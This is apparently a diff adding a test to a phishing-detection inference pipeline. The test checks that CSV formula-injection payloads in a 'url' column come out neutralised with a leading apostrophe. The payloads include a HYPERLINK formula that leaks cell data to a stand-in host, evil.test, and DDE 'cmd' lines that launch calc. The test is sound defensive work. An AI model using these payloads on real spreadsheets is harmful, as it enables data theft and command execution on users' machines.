@@ -3,6 +3,7 @@ the project with a champion model fitted on the real data set."""
 
 from __future__ import annotations
 
+import csv
 from pathlib import Path
 
 import pandas as pd
@@ -121,3 +122,42 @@ def test_bad_input_stops_the_run_naming_the_problem_and_leaves_no_output(
     assert str(source) in str(caught.value)
     assert (error.column, error.row) == (column, row)
     assert files_in(output.parent) == []  # no predictions, no partial temporary file
+
+
+def test_formula_cells_of_the_input_come_out_neutralised_in_predictions(
+    project, run_kedro, new_sites, tmp_path, schema
+):
+    sites = new_sites(6, seed=4)
+    sites["url"] = [
+        '=HYPERLINK("http://evil.test/?"&A2,"open")',
+        "@SUM(1+1)*cmd|' /C calc'!A0",
+        "+cmd|' /C calc'!A0",
+        "-2+3",
+        "https://fine.example/?a=1",
+        "-1",
+    ]
+    source = tmp_path / "sites.csv"
+    sites.to_csv(source, index=False)
+    target = tmp_path / "predictions.csv"
+    run_kedro(
+        project,
+        "inference",
+        {"inference_input_path": str(source), "inference_output_path": str(target)},
+    )
+    with target.open(newline="", encoding="utf-8") as handle:
+        rows = list(csv.reader(handle))
+    header, cells = rows[0], rows[1:]
+    urls = [row[header.index("url")] for row in cells]
+    assert urls == [
+        '\'=HYPERLINK("http://evil.test/?"&A2,"open")',
+        "'@SUM(1+1)*cmd|' /C calc'!A0",
+        "'+cmd|' /C calc'!A0",
+        "'-2+3",
+        "https://fine.example/?a=1",
+        "-1",  # a number stays a number
+    ]
+    # the features and the verdict are numbers, written as numbers
+    scored = pd.read_csv(target)
+    pd.testing.assert_frame_equal(scored[feature_columns(schema)], sites[feature_columns(schema)])
+    assert set(scored["prediction"]) <= {-1, 1}
+    assert scored["phishing_probability"].dtype == float
